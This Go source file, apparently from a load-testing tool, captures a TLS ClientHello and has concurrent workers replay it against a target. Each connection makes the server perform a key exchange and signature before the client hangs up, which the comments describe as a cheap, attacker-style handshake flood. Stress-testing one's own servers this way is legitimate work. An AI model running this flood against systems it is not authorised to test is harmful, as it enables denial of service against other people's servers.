package load

import (
	"crypto/tls"
	"errors"
	"io"
	"net"
	"time"
)

var errCaptured = errors.New("ClientHello captured")

// capture is a connection that keeps what is written first, and fails.
type capture struct {
	net.Conn
	hello []byte
}

func (c *capture) Write(p []byte) (int, error) {
	c.hello = append(c.hello, p...)
	return 0, errCaptured
}

// clientHello is the first flight that crypto/tls would send.
func (t Target) clientHello() []byte {
	var c capture
	tls.Client(&c, t.config(nil)).Handshake() // fails by errCaptured
	return c.hello
}

// flood makes the server do handshakes as an attacker would: the same ClientHello again and again, a wait for the server's
// flight, which has cost it a key exchange and a signature, and the end. The flood itself costs next to nothing.
func (h *holder) flood(a FloodArgs) (Reply, error) {
	if !a.TLS {
		return Reply{}, errors.New("a flood of handshakes needs TLS")
	}
	hello, end := a.clientHello(), time.Now().Add(a.For)
	return workers(a.AtOnce, func(w int, r *Reply) {
		for i := w; time.Now().Before(end); i += a.AtOnce {
			if err := a.provoke(a.First+i, hello); err != nil {
				r.fail(err)
				continue
			}
			r.Done++
		}
	}), nil
}

// provoke ends when the server has begun the encrypted part of its flight, so that the signature is made.
func (t Target) provoke(i int, hello []byte) error {
	conn, err := t.dialTCP(i)
	if err != nil {
		return err
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(ioTimeout))
	if _, err := conn.Write(hello); err != nil {
		return err
	}
	const (
		headerBytes     = 5
		applicationData = 23 // RFC 8446 5.1
		maxRecords      = 8
	)
	header := make([]byte, headerBytes)
	for range maxRecords {
		if _, err := io.ReadFull(conn, header); err != nil {
			return err
		}
		if header[0] == applicationData {
			return nil
		}
		if _, err := io.CopyN(io.Discard, conn, int64(header[3])<<8|int64(header[4])); err != nil {
			return err
		}
	}
	return errResponse
}
